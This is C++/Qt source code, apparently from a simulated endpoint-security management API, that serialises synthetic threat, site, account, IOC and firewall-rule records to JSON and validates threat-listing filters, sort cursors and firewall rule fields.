    w.str("siteName", s.name);
    w.endObject();

    w.id("id", t.id);

    w.beginArray("indicators");
    for (int k = 0; k < t.techniqueCount; ++k) {
        const Technique &tech = Techniques[t.techniques[k]];
        w.beginObject();
        w.latin("category", tech.category);
        w.latin("description", tech.description);
        w.beginArray("ids");
        w.integer(nullptr, tech.indicatorId);
        w.endArray();
        w.beginArray("tactics");
        w.beginObject();
        w.latin("name", tech.tactic);
        w.latin("source", "MITRE");
        w.beginArray("techniques");
        w.beginObject();
        w.latin("link", tech.link);
        w.latin("name", tech.id);
        w.endObject();
        w.endArray();
        w.endObject();
        w.endArray();
        w.endObject();
    }
    w.endArray();

    w.beginArray("mitigationStatus");
    const auto action = [&](const char *name, qint64 start) {
        w.beginObject();
        w.latin("action", name);
        w.time("mitigationEndedAt", start + 150 * UsPerMs);
        w.time("mitigationStartedAt", start);
        w.latin("status", "success");
        w.endObject();
    };
    const qint64 mitigationStart = t.createdAt + 350 * UsPerMs + qint64(t.id % 1000) * UsPerMs;
    if (t.mitigation == MitigationMitigated) {
        action("kill", mitigationStart);
        if (!fileless)
            action("quarantine", mitigationStart + 480 * UsPerMs);
    } else if (t.mitigation == MitigationNotMitigated && (t.id & 1)) {
        action("kill", mitigationStart);
    }
    w.endArray();

    const QStringView displayName = fileDisplayNameOf(t);
    QStringView extension;
    if (!fileless) {
        const qsizetype dot = displayName.lastIndexOf(u'.');
        if (dot > 0)
            extension = displayName.mid(dot + 1);
    }
    const char *extensionType = "None";
    if (!extension.isEmpty()) {
        static constexpr const char *exe[] = {"exe", "dll", "scr", "sys", "com"};
        static constexpr const char *doc[] = {"docm", "xlsm", "rtf", "pdf", "doc"};
        static constexpr const char *script[] = {"js", "sh", "ps1", "vbs", "hta"};
        if (indexOfName(exe, extension, Qt::CaseInsensitive) >= 0)
            extensionType = "Executable";
        else if (indexOfName(doc, extension, Qt::CaseInsensitive) >= 0)
            extensionType = "Document";
        else if (indexOfName(script, extension, Qt::CaseInsensitive) >= 0)
            extensionType = "Script";
        else
            extensionType = "Archive";
    }
    const char *publisher = fileless ? "" : Publishers[tp.publisher];

    w.beginObject("threatInfo");
    w.latin("analystVerdict", VerdictNames[t.verdict]);
    w.latin("analystVerdictDescription", VerdictDescriptions[t.verdict]);
    w.latin("classification", ClassificationNames[t.classification]);
    w.latin("classificationSource", engine.source);
    w.latin("confidenceLevel", ConfidenceNames[t.confidence]);
    w.time("createdAt", t.createdAt);
    w.beginArray("detectionEngines");
    w.beginObject();
    w.latin("key", engine.key);
    w.latin("title", engine.title);
    w.endObject();
    w.endArray();
    w.latin("detectionType", engine.isStatic ? "static" : "dynamic");
    w.beginArray("engines");
    w.latin(nullptr, engine.title);
    w.endArray();
    w.str("fileDisplayName", displayName);
    w.str("fileExtension", extension);
    w.latin("fileExtensionType", extensionType);
    w.str("filePath", t.filePath);
    w.integer("fileSize", t.fileSize);
    w.time("identifiedAt", t.identifiedAt);
    w.latin("incidentStatus", IncidentNames[t.incident]);
    w.latin("incidentStatusDescription", IncidentDescriptions[t.incident]);
    w.latin("initiatedBy", InitiatedByValues[t.initiatedBy].key);
    w.boolean("isFileless", fileless);
    w.boolean("isValidCertificate", *publisher != 0);
    w.latin("maliciousProcessArguments", tp.arguments);
    if (t.flags & FlagMd5)
        w.hex("md5", t.md5, 16);
    else
        w.null("md5");
    w.latin("mitigationStatus", MitigationNames[t.mitigation]);
    w.latin("mitigationStatusDescription", MitigationDescriptions[t.mitigation]);
    w.latin("originatorProcess", tp.originator);
    w.str("processUser", a.processUser);
    w.latin("publisherName", publisher);
    if (t.flags & FlagHashes) {
        w.hex("sha1", t.sha1, 20);
        w.hex("sha256", t.sha256, 32);
    } else {
        w.null("sha1");
        w.null("sha256");
    }
    {
        char storyline[24];
        std::snprintf(storyline, sizeof storyline, "%016llX",
            static_cast<unsigned long long>(t.id * 0x9E3779B97F4A7C15ull));
        w.latin("storyline", storyline);
    }
    w.id("threatId", t.id);
    w.str("threatName", t.name);
    w.time("updatedAt", t.updatedAt);
    w.endObject();

    w.endObject();
}

// ------------------------------------------------------------------------------------------------
// Threat listing: sort keys, orders, filters, cursors

namespace {

void hexInto(char *buf, const quint8 *data, int len)
{
    static constexpr char digits[] = "0123456789abcdef";
    for (int i = 0; i < len; ++i) {
        buf[2 * i] = digits[data[i] >> 4];
        buf[2 * i + 1] = digits[data[i] & 0xf];
    }
}

// Every list filter of GET /threats, in the order they enter the cache key.
constexpr const char *ThreatFilterKeys[] = {
    "ids",
    "accountIds",
    "siteIds",
    "groupIds",
    "createdAt__gte",
    "createdAt__gt",
    "createdAt__lte",
    "createdAt__lt",
    "updatedAt__gte",
    "updatedAt__gt",
    "updatedAt__lte",
    "updatedAt__lt",
    "incidentStatuses",
    "analystVerdicts",
    "classifications",
    "confidenceLevels",
    "mitigationStatuses",
    "contentHashes",
    "displayName__like",
    "query",
    "noteExists",
    "resolved",
};

std::optional<SimReply> checkIdList(const QString &name, const QStringList &ids)
{
    for (const QString &id : ids) {
        if (!parseId(id))
            return validationError(u"%1: \"%2\" is not a valid id"_s.arg(name, id));
    }
    return std::nullopt;
}

std::optional<SimReply> timeBounds(const Params &params, const QString &field, qint64 *min, qint64 *max)
{
    static constexpr const char *suffixes[] = {"__gte", "__gt", "__lte", "__lt"};
    for (int i = 0; i < 4; ++i) {
        const QString key = field + QLatin1String(suffixes[i]);
        const auto it = params.constFind(key);
        if (it == params.constEnd())
            continue;
        const auto value = SimTenant::parseTimestamp(*it);
        if (!value)
            return validationError(
                u"%1: \"%2\" is not a valid ISO 8601 date-time (e.g. 2024-05-01T00:00:00.000000Z)"_s.arg(
                    key, *it));
        switch (i) {
        case 0:
            *min = std::max(*min, *value);
            break;
        case 1:
            *min = std::max(*min, *value + 1);
            break;
        case 2:
            *max = std::min(*max, *value);
            break;
        default:
            *max = std::min(*max, *value - 1);
            break;
        }
    }
    return std::nullopt;
}

template<std::size_t N>
std::optional<SimReply> enumMask(
    const Params &params, const QString &key, const char *const (&names)[N], bool strict, quint32 *mask)
{
    const auto it = params.constFind(key);
    if (it == params.constEnd())
        return std::nullopt;
    quint32 m = 0;
    for (const QString &value : splitList(*it)) {
        const int index = indexOfName(names, value, strict ? Qt::CaseSensitive : Qt::CaseInsensitive);
        if (index >= 0)
            m |= 1u << index;
        else if (strict)
            return validationError(u"%1: \"%2\" is not one of %3"_s.arg(key, value, joinNames(names)));
    }
    *mask = m;
    return std::nullopt;
}

QStringList jsonIdList(const QJsonValue &value)
{
    QStringList out;
    const QJsonArray array = value.toArray();
    for (const QJsonValue &v : array) {
        if (v.isString())
            out << v.toString();
        else if (v.isDouble())
            out << QString::number(qint64(v.toDouble()));
        else
            out << QString::fromUtf8(QJsonDocument(QJsonArray {v}).toJson(QJsonDocument::Compact))
                       .mid(1)
                       .chopped(1);
    }
    return out;
}

SimReply errorsReply(const QStringList &details)
{
    QJsonArray errors;
    for (const QString &detail : details)
        errors.append(QJsonObject {
            {u"code"_s, CodeValidation}, {u"title"_s, u"Validation Error"_s}, {u"detail"_s, detail}});
    return jsonReply(QJsonObject {{u"errors"_s, errors}}, 400);
}

SimReply pagedReply(const QJsonValue &data, qsizetype totalItems, const QString &nextCursor)
{
    const QJsonObject pagination {
        {u"nextCursor"_s, nextCursor.isEmpty() ? QJsonValue(QJsonValue::Null) : QJsonValue(nextCursor)},
        {u"totalItems"_s, qint64(totalItems)},
    };
    return jsonReply(QJsonObject {{u"data"_s, data}, {u"pagination"_s, pagination}});
}

QString quotedList(const QStringList &values, int max = 50)
{
    QStringList quoted;
    for (qsizetype i = 0; i < values.size() && i < max; ++i)
        quoted << u'"' + values[i] + u'"';
    QString out = quoted.join(u", "_s);
    if (values.size() > max)
        out += u" and %1 more"_s.arg(values.size() - max);
    return out;
}

} // namespace

quint64 SimTenant::Private::numericKey(SortField f, const Threat &t) const
{
    switch (f) {
    case SortId:
        return t.id;
    case SortCreatedAt:
        return quint64(t.createdAt);
    case SortUpdatedAt:
        return quint64(t.updatedAt);
    case SortMitigationStatus:
        return quint64(MitigationRank[t.mitigation]);
    case SortAgentVersion:
        return quint64(versionRank[agents[t.agent].version]);
    case SortAgentMachineType:
        return quint64(KindMachine[agents[t.agent].kind]);
    case SortSiteId:
        return sites[agents[t.agent].site].id;
    case SortFileDisplayName:
    case SortFieldCount:
        break;
    }
    return 0;
}

int SimTenant::Private::compareToCursor(const ThreatQuery &q, const Threat &t) const
{
    if (q.sort == SortFileDisplayName) {
        const int c = fileDisplayNameOf(t).compare(q.cursorText, Qt::CaseInsensitive);
        if (c)
            return c < 0 ? -1 : 1;
    } else {
        const quint64 k = numericKey(q.sort, t);
        if (k != q.cursorKey)
            return k < q.cursorKey ? -1 : 1;
    }
    return t.id < q.cursorId ? -1 : (t.id > q.cursorId ? 1 : 0);
}

// All threats in ascending (key, id) order for one sort field; built once, kept until keys change.
const std::vector<quint32> &SimTenant::Private::sortedOrder(SortField f)
{
    std::vector<quint32> &order = orders[f];
    if (orderValid[f])
        return order;
    const std::size_t n = threats.size();
    order.resize(n);
    for (std::size_t i = 0; i < n; ++i)
        order[i] = quint32(i);
    if (f == SortFileDisplayName) {
        std::vector<QStringView> keys(n);
        for (std::size_t i = 0; i < n; ++i)
            keys[i] = fileDisplayNameOf(threats[i]);
        std::sort(order.begin(), order.end(), [&](quint32 a, quint32 b) {
            const int c = keys[a].compare(keys[b], Qt::CaseInsensitive);
            if (c)
                return c < 0;
            return threats[a].id < threats[b].id;
        });
    } else {
        std::vector<std::pair<quint64, quint64>> keys(n);
        for (std::size_t i = 0; i < n; ++i)
            keys[i] = {numericKey(f, threats[i]), threats[i].id};
        std::sort(order.begin(), order.end(), [&](quint32 a, quint32 b) { return keys[a] < keys[b]; });
    }
    orderValid[f] = true;
    return order;
}

std::optional<SimReply> SimTenant::Private::parseThreatQuery(
    const QUrlQuery &query, const SimCaller &caller, ThreatQuery *q) const
{
    const Params p = paramsOf(query);

    // scope
    const QStringList accountIds = splitList(p.value(u"accountIds"_s));
    const QStringList siteIds = splitList(p.value(u"siteIds"_s));
    const QStringList groupIds = splitList(p.value(u"groupIds"_s));
    const QStringList ids = splitList(p.value(u"ids"_s));
    if (auto e = checkIdList(u"accountIds"_s, accountIds))
        return e;
    if (auto e = checkIdList(u"siteIds"_s, siteIds))
        return e;
    if (auto e = checkIdList(u"groupIds"_s, groupIds))
        return e;
    if (auto e = checkIdList(u"ids"_s, ids))
        return e;
    if (auto e = checkScope(accountIds, siteIds, caller))
        return e;

    if (p.contains(u"accountIds"_s)) {
        quint64 mask = 0;
        for (const QString &id : accountIds) {
            const int account = accountById(*parseId(id));
            for (std::size_t s = 0; s < sites.size(); ++s) {
                if (account >= 0 && sites[s].account == account)
                    mask |= quint64(1) << s;
            }
        }
        q->siteMask &= mask;
    }
    if (p.contains(u"siteIds"_s)) {
        quint64 mask = 0;
        for (const QString &id : siteIds) {
            const int site = siteById(*parseId(id));
            if (site >= 0)
                mask |= quint64(1) << site;
        }
        q->siteMask &= mask;
    }
    if (caller.isScoped())
        q->siteMask &= quint64(1) << caller.siteIndex;
    if (p.contains(u"groupIds"_s)) {
        quint64 mask = 0;
        for (const QString &id : groupIds) {
            const quint64 value = *parseId(id);
            for (std::size_t g = 0; g < groups.size(); ++g) {
                if (groups[g].id == value)
                    mask |= quint64(1) << g;
            }
        }
        q->groupMask = mask;
    }
    if (p.contains(u"ids"_s)) {
        q->hasIds = true;
        for (const QString &id : ids)
            q->ids.insert(*parseId(id));
    }

    // time ranges
    if (auto e = timeBounds(p, u"createdAt"_s, &q->createdMin, &q->createdMax))
        return e;
    if (auto e = timeBounds(p, u"updatedAt"_s, &q->updatedMin, &q->updatedMax))
        return e;

    // enumerations (classification is open-ended in real consoles: unknown values just match nothing)
    if (auto e = enumMask(p, u"incidentStatuses"_s, IncidentNames, true, &q->incidentMask))
        return e;
    if (auto e = enumMask(p, u"analystVerdicts"_s, VerdictNames, true, &q->verdictMask))
        return e;
    if (auto e = enumMask(p, u"confidenceLevels"_s, ConfidenceNames, true, &q->confidenceMask))
        return e;
    if (auto e = enumMask(p, u"mitigationStatuses"_s, MitigationNames, true, &q->mitigationMask))
        return e;
    if (auto e = enumMask(p, u"classifications"_s, ClassificationNames, false, &q->classificationMask))
        return e;

    // hashes
    if (p.contains(u"contentHashes"_s)) {
        q->hasHashes = true;
        for (const QString &value : splitList(p.value(u"contentHashes"_s))) {
            if (!isHexText(value) || (value.size() != 32 && value.size() != 40 && value.size() != 64))
                return validationError(
                    u"contentHashes: \"%1\" is not an MD5, SHA1 or SHA256 hex digest"_s.arg(value));
            q->hashes << QByteArray::fromHex(value.toLatin1());
        }
    }

    // text
    q->displayLike = p.value(u"displayName__like"_s).trimmed();
    q->text = p.value(u"query"_s).trimmed();
    if (!q->text.isEmpty()) {
        if (isHexText(q->text) && q->text.size() <= 64)
            q->textHex = q->text.toLower().toLatin1();
        q->textId = parseId(q->text).value_or(0);
    }
    if (auto e = parseBoolParam(p, u"noteExists"_s, &q->noteExists))
        return e;
    if (auto e = parseBoolParam(p, u"resolved"_s, &q->resolved))
        return e;

    // order and paging
    if (p.contains(u"sortBy"_s)) {
        const QString value = p.value(u"sortBy"_s).trimmed();
        const int index = indexOfName(SortFieldNames, value);
        if (index < 0)
            return validationError(
                u"sortBy: \"%1\" is not one of %2"_s.arg(value, joinNames(SortFieldNames)));
        q->sort = SortField(index);
    }
    if (p.contains(u"sortOrder"_s)) {
        const QString value = p.value(u"sortOrder"_s).trimmed();
        if (value.compare(u"asc"_s, Qt::CaseInsensitive) == 0)
            q->descending = false;
        else if (value.compare(u"desc"_s, Qt::CaseInsensitive) == 0)
            q->descending = true;
        else
            return validationError(u"sortOrder: \"%1\" is not one of asc, desc"_s.arg(value));
    }
    if (auto e = parseIntParam(p, u"limit"_s, 1, MaxLimit, DefaultLimit, &q->limit))
        return e;
    if (auto e = parseIntParam(p, u"skip"_s, 0, MaxSkip, 0, &q->skip))
        return e;
    const QString cursor = p.value(u"cursor"_s);
    if (!cursor.isEmpty()) {
        // The cursor carries its own order (like the real API's opaque cursors).
        const auto o = decodeCursor(cursor, u"threats"_s);
        if (!o)
            return badCursor(cursor);
        const int sort = indexOfName(SortFieldNames, o->value(u"sortBy"_s).toString());
        const QString order = o->value(u"sortOrder"_s).toString();
        const auto id = parseId(o->value(u"id"_s).toString());
        const QString key = o->value(u"key"_s).toString();
        if (sort < 0 || (order != u"asc"_s && order != u"desc"_s) || !id)
            return badCursor(cursor);
        q->sort = SortField(sort);
        q->descending = order == u"desc"_s;
        q->cursorId = *id;
        if (q->sort == SortFileDisplayName) {
            q->cursorText = key;
        } else {
            const auto k = parseId(key);
            if (!k)
                return badCursor(cursor);
            q->cursorKey = *k;
        }
        q->hasCursor = true;
    }

    // cache key: caller, order and every filter (length-prefixed values, so they cannot collide)
    QString key = QString::number(caller.siteIndex) + u'/' + QLatin1String(SortFieldNames[q->sort])
        + (q->descending ? u"/d"_s : u"/a"_s);
    for (const char *name : ThreatFilterKeys) {
        const auto it = p.constFind(QString::fromLatin1(name));
        if (it != p.constEnd())
            key += u'|' + QLatin1String(name) + u'=' + QString::number(it->size()) + u':' + *it;
    }
    q->cacheKey = key;
    return std::nullopt;
}

std::shared_ptr<const std::vector<quint32>> SimTenant::Private::filtered(const ThreatQuery &q)
{
    for (auto it = cache.begin(); it != cache.end(); ++it) {
        if (it->key == q.cacheKey) {
            cache.splice(cache.begin(), cache, it);
            return cache.front().rows;
        }
    }

    const std::vector<quint32> &order = sortedOrder(q.sort);

    enum : quint8 { AgentInScope = 1, AgentTextMatch = 2 };
    std::vector<quint8> agentFlags(agents.size());
    for (std::size_t i = 0; i < agents.size(); ++i) {
        const Agent &a = agents[i];
        quint8 f = 0;
        if (((q.siteMask >> a.site) & 1u) && ((q.groupMask >> a.group) & 1u))
            f |= AgentInScope;
        if (!q.text.isEmpty() && a.computerName.contains(q.text, Qt::CaseInsensitive))
            f |= AgentTextMatch;
        agentFlags[i] = f;
    }
    const std::string_view hexNeedle(q.textHex.constData(), std::size_t(q.textHex.size()));
    const auto hexContains = [&hexNeedle](const quint8 *digest, int len) {
        char buf[64];
        hexInto(buf, digest, len);
        return std::string_view(buf, std::size_t(2 * len)).find(hexNeedle) != std::string_view::npos;
    };

    const auto matches = [&](const Threat &t) -> bool {
        const quint8 af = agentFlags[t.agent];
        if (!(af & AgentInScope))
            return false;
        if (t.createdAt < q.createdMin || t.createdAt > q.createdMax)
            return false;
        if (t.updatedAt < q.updatedMin || t.updatedAt > q.updatedMax)
            return false;
        if (!((q.incidentMask >> t.incident) & 1u) || !((q.verdictMask >> t.verdict) & 1u)
            || !((q.classificationMask >> t.classification) & 1u)
            || !((q.confidenceMask >> t.confidence) & 1u) || !((q.mitigationMask >> t.mitigation) & 1u))
            return false;
        if (q.noteExists >= 0 && (t.noteCount > 0) != (q.noteExists == 1))
            return false;
        if (q.resolved >= 0 && (t.incident == IncidentResolved) != (q.resolved == 1))
            return false;
        if (q.hasIds && !q.ids.contains(t.id))
            return false;
        if (q.hasHashes) {
            bool any = false;
            for (const QByteArray &h : q.hashes) {
                const std::size_t n = std::size_t(h.size());
                const quint8 *digest = n == 20 ? t.sha1 : (n == 32 ? t.sha256 : t.md5);
                const bool present = n == 16 ? (t.flags & FlagMd5) != 0 : (t.flags & FlagHashes) != 0;
                if (present && std::memcmp(digest, h.constData(), n) == 0) {
                    any = true;
                    break;
                }
            }
            if (!any)
                return false;
        }
        if (!q.displayLike.isEmpty() && !t.name.contains(q.displayLike, Qt::CaseInsensitive)
            && !fileDisplayNameOf(t).contains(q.displayLike, Qt::CaseInsensitive))
            return false;
        if (!q.text.isEmpty()) {
            bool hit = (af & AgentTextMatch) || t.id == q.textId
                || t.name.contains(q.text, Qt::CaseInsensitive)
                || t.filePath.contains(q.text, Qt::CaseInsensitive);
            if (!hit && !hexNeedle.empty() && (t.flags & FlagHashes)) {
                hit = hexContains(t.sha256, 32) || hexContains(t.sha1, 20)
                    || ((t.flags & FlagMd5) && hexContains(t.md5, 16));
            }
            if (!hit)
                return false;
        }
        return true;
    };

    auto rows = std::make_shared<std::vector<quint32>>();
    if (q.descending) {
        for (auto it = order.rbegin(); it != order.rend(); ++it) {
            if (matches(threats[*it]))
                rows->push_back(*it);
        }
    } else {
        for (const quint32 i : order) {
            if (matches(threats[i]))
                rows->push_back(i);
        }
    }
    cache.push_front(CacheEntry {q.cacheKey, rows});
    while (cache.size() > CacheCapacity)
        cache.pop_back();
    return rows;
}

QString SimTenant::Private::threatCursor(const ThreatQuery &q, const Threat &t) const
{
    QJsonObject o {
        {u"kind"_s, u"threats"_s},
        {u"sortBy"_s, QLatin1String(SortFieldNames[q.sort])},
        {u"sortOrder"_s, q.descending ? u"desc"_s : u"asc"_s},
        {u"id"_s, idString(t.id)},
    };
    if (q.sort == SortFileDisplayName)
        o.insert(u"key"_s, fileDisplayNameOf(t).toString());
    else
        o.insert(u"key"_s, QString::number(numericKey(q.sort, t)));
    return encodeCursor(o);
}

QJsonObject SimTenant::Private::noteJson(const Note &n) const
{
    const Analyst &a = Analysts[n.analyst];
    return QJsonObject {
        {u"createdAt"_s, SimTenant::formatTimestamp(n.createdAt)},
        {u"creator"_s, QString::fromUtf16(a.name)},
        {u"creatorId"_s, idString(a.id)},
        {u"edited"_s, n.edited},
        {u"id"_s, idString(n.id)},
        {u"text"_s, n.text},
        {u"updatedAt"_s, SimTenant::formatTimestamp(n.updatedAt)},
    };
}

// ------------------------------------------------------------------------------------------------
// Sites and accounts JSON

QJsonObject SimTenant::Private::siteJson(int index) const
{
    const Site &s = sites[std::size_t(index)];
    const Account &a = accounts[std::size_t(s.account)];
    return QJsonObject {
        {u"accountId"_s, idString(a.id)},
        {u"accountName"_s, a.name},
        {u"activeLicenses"_s, s.activeLicenses},
        {u"createdAt"_s, SimTenant::formatTimestamp(s.createdAt)},
        {u"creator"_s, QString::fromUtf16(Analysts[0].name)},
        {u"creatorId"_s, idString(Analysts[0].id)},
        {u"description"_s,
            s.description.isEmpty() ? QJsonValue(QJsonValue::Null) : QJsonValue(s.description)},
        {u"expiration"_s,
            s.expiration ? QJsonValue(SimTenant::formatTimestamp(s.expiration))
                         : QJsonValue(QJsonValue::Null)},
        {u"externalId"_s, QJsonValue(QJsonValue::Null)},
        {u"healthStatus"_s, true},
        {u"id"_s, idString(s.id)},
        {u"isDefault"_s, s.isDefault},
        {u"name"_s, s.name},
        {u"registrationToken"_s, s.registrationToken},
        {u"siteType"_s, QLatin1String(s.siteType)},
        {u"sku"_s, QLatin1String(s.sku)},
        {u"state"_s, QLatin1String(s.state)},
        {u"suite"_s, QLatin1String(s.sku)},
        {u"totalLicenses"_s, s.totalLicenses},
        {u"unlimitedExpiration"_s, s.expiration == 0},
        {u"unlimitedLicenses"_s, false},
        {u"updatedAt"_s, SimTenant::formatTimestamp(s.updatedAt)},
    };
}

QJsonObject SimTenant::Private::accountJson(int index) const
{
    const Account &a = accounts[std::size_t(index)];
    int siteCount = 0;
    int agentCount = 0;
    int licenses = 0;
    for (const Site &s : sites) {
        if (s.account == index) {
            ++siteCount;
            agentCount += s.activeLicenses;
            licenses += s.totalLicenses;
        }
    }
    return QJsonObject {
        {u"accountType"_s, QLatin1String(a.accountType)},
        {u"activeAgents"_s, agentCount},
        {u"billingMode"_s, u"subscription"_s},
        {u"createdAt"_s, SimTenant::formatTimestamp(a.createdAt)},
        {u"creator"_s, QString::fromUtf16(Analysts[0].name)},
        {u"creatorId"_s, idString(Analysts[0].id)},
        {u"expiration"_s, QJsonValue(QJsonValue::Null)},
        {u"externalId"_s, QJsonValue(QJsonValue::Null)},
        {u"id"_s, idString(a.id)},
        {u"name"_s, a.name},
        {u"numberOfSites"_s, siteCount},
        {u"state"_s, u"active"_s},
        {u"totalLicenses"_s, licenses},
        {u"unlimitedExpiration"_s, true},
        {u"updatedAt"_s, SimTenant::formatTimestamp(a.updatedAt)},
    };
}

// ------------------------------------------------------------------------------------------------
// IOCs and firewall JSON

QString SimTenant::Private::scopeLabel(quint8 scope, quint64 scopeId) const
{
    if (scope == ScopeGlobal)
        return u"the tenant"_s;
    if (scope == ScopeAccount) {
        const int a = accountById(scopeId);
        return u"account \"%1\""_s.arg(a >= 0 ? accounts[std::size_t(a)].name : idString(scopeId));
    }
    const int s = siteById(scopeId);
    return u"site \"%1\""_s.arg(s >= 0 ? sites[std::size_t(s)].name : idString(scopeId));
}

QJsonObject SimTenant::Private::iocJson(const Ioc &ioc) const
{
    QJsonObject o = ioc.extra;
    static constexpr const char *lists[]
        = {"category", "intrusionSets", "labels", "mitreTactic", "reference", "threatActors"};
    for (const char *name : lists) {
        const QString key = QString::fromLatin1(name);
        if (!o.contains(key))
            o.insert(key, QJsonArray());
    }
    if (!o.contains(u"metadata"_s))
        o.insert(u"metadata"_s, u""_s);
    const auto stringOrNull
        = [](const QString &s) { return s.isNull() ? QJsonValue(QJsonValue::Null) : QJsonValue(s); };
    o.insert(u"batchId"_s, ioc.batchId);
    o.insert(u"creationTime"_s,
        ioc.creationTime.isEmpty() ? QJsonValue(QJsonValue::Null) : QJsonValue(ioc.creationTime));
    o.insert(u"creator"_s, ioc.creator);
    o.insert(u"description"_s, stringOrNull(ioc.description));
    o.insert(u"externalId"_s, stringOrNull(ioc.externalId));
    o.insert(u"method"_s, ioc.method);
    o.insert(u"name"_s, stringOrNull(ioc.name));
    if (ioc.originalRiskScore >= 0)
        o.insert(u"originalRiskScore"_s, ioc.originalRiskScore);
    o.insert(u"scope"_s, QLatin1String(ScopeNames[ioc.scope]));
    o.insert(u"scopeId"_s,
        ioc.scope == ScopeGlobal ? QJsonValue(QJsonValue::Null) : QJsonValue(idString(ioc.scopeId)));
    if (ioc.severity >= 0)
        o.insert(u"severity"_s, ioc.severity);
    o.insert(u"source"_s, stringOrNull(ioc.source));
    o.insert(u"type"_s, QLatin1String(IocTypeNames[ioc.type]));
    o.insert(u"updatedAt"_s, SimTenant::formatTimestamp(ioc.updatedAt));
    o.insert(u"uploadTime"_s, SimTenant::formatTimestamp(ioc.uploadTime));
    o.insert(u"uuid"_s, ioc.uuid);
    o.insert(u"validUntil"_s, ioc.validUntil);
    o.insert(u"value"_s, ioc.value);
    return o;
}

QJsonObject SimTenant::Private::ruleJson(const FirewallRule &rule) const
{
    QJsonObject o = rule.data;
    o.insert(u"createdAt"_s, SimTenant::formatTimestamp(rule.createdAt));
    o.insert(u"creator"_s, QString::fromUtf16(Analysts[0].name));
    o.insert(u"creatorId"_s, idString(Analysts[0].id));
    o.insert(u"editable"_s, true);
    o.insert(u"id"_s, idString(rule.id));
    o.insert(u"order"_s, rule.order);
    o.insert(u"ruleCategory"_s, u"firewall"_s);
    o.insert(u"scope"_s, QLatin1String(ScopeNames[rule.scope]));
    o.insert(u"scopeId"_s,
        rule.scope == ScopeGlobal ? QJsonValue(QJsonValue::Null) : QJsonValue(idString(rule.scopeId)));
    o.insert(u"updatedAt"_s, SimTenant::formatTimestamp(rule.updatedAt));
    return o;
}

namespace {

constexpr const char *RuleActions[] = {"Allow", "Block"};
constexpr const char *RuleStatuses[] = {"Enabled", "Disabled"};
constexpr const char *RuleDirections[] = {"any", "inbound", "outbound"};
constexpr const char *RuleOsTypes[] = {"windows", "windows_legacy", "macos", "linux"};
constexpr const char *RuleHostTypes[] = {"any", "addresses", "cidr", "range", "fqdn"};
constexpr const char *RuleServerKeys[] = {"id", "order", "scope", "scopeId", "ruleCategory", "createdAt",
    "updatedAt", "editable", "creator", "creatorId"};

QString jsonText(const QJsonValue &v)
{
    if (v.isString())
        return v.toString();
    return QString::fromUtf8(QJsonDocument(QJsonArray {v}).toJson(QJsonDocument::Compact)).mid(1).chopped(1);
}

void checkHostSpec(const QJsonValue &entry, const QString &where, QStringList *errors)
{
    if (!entry.isObject()) {
        *errors << where + u": must be an object with \"type\" and \"values\""_s;
        return;
    }
    const QJsonObject o = entry.toObject();
    const QString type = o.value(u"type"_s).toString();
    const int kind = indexOfName(RuleHostTypes, type);
    if (kind < 0) {
        *errors << u"%1.type: \"%2\" is not one of %3"_s.arg(
            where, jsonText(o.value(u"type"_s)), joinNames(RuleHostTypes));
        return;
    }
    if (kind == 0)
        return; // "any": values are ignored
    const QJsonValue values = o.value(u"values"_s);
    if (!values.isArray() || values.toArray().isEmpty()) {
        *errors << where + u".values: must be a non-empty list"_s;
        return;
    }
    QStringList bad;
    const QJsonArray array = values.toArray();
    for (const QJsonValue &v : array) {
        const QString s = v.toString();
        bool ok = v.isString();
        if (ok) {
            switch (kind) {
            case 1:
                ok = isIpAddress(s);
                break;
            case 2:
                ok = isCidr(s);
                break;
            case 3:
                ok = isIpRange(s);
                break;
            default:
                ok = isHostName(s, true);
                break;
            }
        }
        if (!ok)
            bad << jsonText(v);
    }
    if (!bad.isEmpty())
        *errors << u"%1.values: invalid %2 value(s): %3"_s.arg(where, type, quotedList(bad));
}

} // namespace

QStringList SimTenant::Private::validateRule(const QJsonObject &rule, bool partial) const
{
    QStringList errors;
    const auto wanted = [&](const QString &key) { return !partial || rule.contains(key); };

    if (wanted(u"name"_s)) {
        const QJsonValue v = rule.value(u"name"_s);
        if (!v.isString() || v.toString().trimmed().isEmpty())
            errors << u"data.name: must be a non-empty string"_s;
    }
    if (wanted(u"action"_s)) {
        const QJsonValue v = rule.value(u"action"_s);
        if (indexOfName(RuleActions, v.toString()) < 0 || !v.isString())
            errors << u"data.action: \"%1\" is not one of %2"_s.arg(jsonText(v), joinNames(RuleActions));
    }
    const auto checkEnum = [&](const QString &key, auto &names) {
        if (!rule.contains(key))
            return;
        const QJsonValue v = rule.value(key);
        if (!v.isString() || indexOfName(names, v.toString()) < 0)
            errors << u"data.%1: \"%2\" is not one of %3"_s.arg(key, jsonText(v), joinNames(names));
    };
    checkEnum(u"status"_s, RuleStatuses);
    checkEnum(u"direction"_s, RuleDirections);
    if (rule.contains(u"osTypes"_s)) {
        const QJsonValue v = rule.value(u"osTypes"_s);
        if (!v.isArray() || v.toArray().isEmpty()) {
            errors << u"data.osTypes: must be a non-empty list of %1"_s.arg(joinNames(RuleOsTypes));
        } else {
            const QJsonArray array = v.toArray();
            for (const QJsonValue &os : array) {
                if (!os.isString() || indexOfName(RuleOsTypes, os.toString()) < 0)
                    errors << u"data.osTypes: \"%1\" is not one of %2"_s.arg(
                        jsonText(os), joinNames(RuleOsTypes));
            }
        }
    }
    if (rule.contains(u"remoteHosts"_s)) {
        const QJsonValue v = rule.value(u"remoteHosts"_s);
        if (!v.isArray()) {
            errors << u"data.remoteHosts: must be a list of {type, values} objects"_s;
        } else {
            const QJsonArray array = v.toArray();
            for (qsizetype i = 0; i < array.size(); ++i)
                checkHostSpec(array[i], u"data.remoteHosts[%1]"_s.arg(i), &errors);
        }
    }
    if (rule.contains(u"remoteHost"_s) && !rule.value(u"remoteHost"_s).isNull())
        checkHostSpec(rule.value(u"remoteHost"_s), u"data.remoteHost"_s, &errors);
    static constexpr const char *objectKeys[]
        = {"localHost", "localPort", "remotePort", "application", "location"};
    for (const char *name : objectKeys) {
        const QString key = QString::fromLatin1(name);
        if (rule.contains(key) && !rule.value(key).isObject() && !rule.value(key).isNull())
            errors << u"data.%1: must be an object"_s.arg(key);
    }
    static constexpr const char *stringKeys[] = {"description", "protocol"};
    for (const char *name : stringKeys) {
        const QString key = QString::fromLatin1(name);
        if (rule.contains(key) && !rule.value(key).isString() && !rule.value(key).isNull())
            errors << u"data.%1: must be a string"_s.arg(key);
    }
    return errors;
}

// ================================================================================================
// Public API

SimTenant::SimTenant(int threats, quint64 seed, const QDateTime &baseTime, bool seedFlags)
{
    qint64 baseMs = 0;
